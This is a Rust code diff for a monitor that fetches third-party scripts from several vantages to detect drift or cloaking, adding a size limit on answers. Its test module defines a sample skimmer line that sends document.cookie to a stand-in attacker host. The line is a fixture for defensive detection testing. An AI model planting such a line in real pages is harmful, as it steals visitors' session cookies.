@@ -67,6 +67,15 @@ pub(super) struct Sight {
     /// By the names of vantages.
     pub(super) answers: Vec<(&'static str, Answer)>,
     pub(super) versions: Vec<Version>,
+    /// An answer was longer than `most`, and not read.
+    pub(super) cut: bool,
+}
+
+/// What a pass gathers beside its answers.
+#[derive(Default)]
+struct Gathered {
+    versions: Vec<Version>,
+    cut: bool,
 }
 
 impl Looker {
@@ -75,21 +84,28 @@ impl Looker {
         Ok(Self { fetcher: Fetcher::new(extra_ca)?, allow_private, patience })
     }
 
-    /// Looks at a script.
-    pub(super) async fn look(&self, watched: &Watched, memory: &mut Memory, whole: Whole) -> Sight {
+    /// Looks at a script, taking at most so many bytes of an answer. What is kept of a look is at most
+    /// [`Looker::holds`].
+    pub(super) async fn look(
+        &self,
+        watched: &Watched,
+        memory: &mut Memory,
+        whole: Whole,
+        most: usize,
+    ) -> Sight {
         let script = &watched.script;
         let evergreen = script.tier == Tier::Evergreen;
         let digests = if evergreen { memory.before.clone() } else { script.digests.clone() };
         let needs_cors = script.tier == Tier::Pin && watched.is_elsewhere();
         let right = Right { digests: &digests, evergreen, needs_cors };
-        let mut versions = Vec::new();
-        let first = self.pass(watched, memory, whole, (&right, &mut versions)).await;
+        let mut gathered = Gathered::default();
+        let first = self.pass(watched, memory, (whole, most), (&right, &mut gathered)).await;
         let mut drift = classify(&bare(&first), &right);
         let mut answers = first;
         if drift == Drift::Cloaked {
             // A release that goes out just now looks like it. Then all agree a moment later, and not on
             // what was there before: one that answers by chance would agree on that too.
-            let second = self.pass(watched, memory, Whole::All, (&right, &mut versions)).await;
+            let second = self.pass(watched, memory, (Whole::All, most), (&right, &mut gathered)).await;
             let again = classify(&bare(&second), &right);
             if agree(&bare(&second), &right) && matches!(again, Drift::Changed | Drift::Gone) {
                 (drift, answers) = (again, second);
@@ -100,15 +116,22 @@ impl Looker {
         if evergreen && drift == Drift::FirstSeen {
             memory.before = bytes_of(&answers);
         }
-        Sight { drift, answers, versions }
+        let Gathered { versions, cut } = gathered;
+        Sight { drift, answers, versions, cut }
+    }
+
+    /// Bytes that a look holds at the most: what is kept, and one more answer as it came and as it is while
+    /// it is decoded.
+    pub(super) fn holds(most: usize) -> usize {
+        most.saturating_mul(VERSIONS + 3)
     }
 
     async fn pass(
         &self,
         watched: &Watched,
         memory: &mut Memory,
-        whole: Whole,
-        (right, versions): (&Right<'_>, &mut Vec<Version>),
+        (whole, most): (Whole, usize),
+        (right, gathered): (&Right<'_>, &mut Gathered),
     ) -> Vec<(&'static str, Answer)> {
         let mut cookies = String::new();
         let mut answers: Vec<(&'static str, Answer)> = Vec::new();
@@ -123,10 +146,10 @@ impl Looker {
             let known = memory.known.get(place).cloned().flatten();
             let known = known
                 .filter(|known| whole != Whole::All && whole != Whole::Only(place) && known.validators.any());
-            let mut came = self.ask(watched, vantage, &cookies, known.as_ref()).await;
+            let mut came = self.ask(watched, vantage, &cookies, (known.as_ref(), most)).await;
             if let Came::Other(Answer::Failed(_)) | Came::Unreached(_) = came {
                 // Once more: networks fail by chance.
-                came = self.ask(watched, vantage, &cookies, None).await;
+                came = self.ask(watched, vantage, &cookies, (None, most)).await;
             }
             let (answer, kept) = match (came, known) {
                 (Came::Whole { answer, bytes, validators, cookies: set }, _) => {
@@ -134,12 +157,16 @@ impl Looker {
                     if cookies.is_empty() && vantage.is_browser() {
                         cookies = set;
                     }
-                    keep(versions, right, &answer, bytes);
+                    keep(&mut gathered.versions, right, &answer, bytes);
                     (answer.clone(), Some(Known { answer, validators }))
                 }
                 (Came::NotModified, Some(known)) => (known.answer.clone(), Some(known)),
                 (Came::NotModified, None) => {
                     (Answer::Failed("it answered 304 to a request without conditions".to_owned()), None)
+                }
+                (Came::TooLong(why), _) => {
+                    gathered.cut = true;
+                    (Answer::Unread(why), None)
                 }
                 (Came::Unreached(why), _) => {
                     unreached += 1;
@@ -155,9 +182,16 @@ impl Looker {
         answers
     }
 
-    async fn ask(&self, watched: &Watched, vantage: &Vantage, cookies: &str, known: Option<&Known>) -> Came {
+    async fn ask(
+        &self,
+        watched: &Watched,
+        vantage: &Vantage,
+        cookies: &str,
+        (known, most): (Option<&Known>, usize),
+    ) -> Came {
         let options = FetchOptions {
             allow_private: self.allow_private,
+            max_bytes: most,
             max_time: self.patience,
             any_status: true,
             wanted: if with_cors(watched) { Wanted::Script } else { Wanted::PlainScript },
@@ -201,6 +235,7 @@ mod tests {
 
     use super::*;
     use crate::drift::watched::tests::chat;
+    use crate::transport::fetch::MAX_BYTES;
 
     const SKIMMER: &str = "fetch('https://drop.evil.example/?'+document.cookie)";
     const OK: &str = "200 OK\r\naccess-control-allow-origin: *\r\ncontent-type: text/javascript";
@@ -236,7 +271,7 @@ mod tests {
     fn look(watched: &Watched, memory: &mut Memory) -> Sight {
         let looker = Looker::new(None, true, Duration::from_secs(20)).unwrap();
         let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
-        let look = looker.look(watched, memory, Whole::All);
+        let look = looker.look(watched, memory, Whole::All, MAX_BYTES);
         tokio::task::LocalSet::new().block_on(&runtime, look)
     }
 
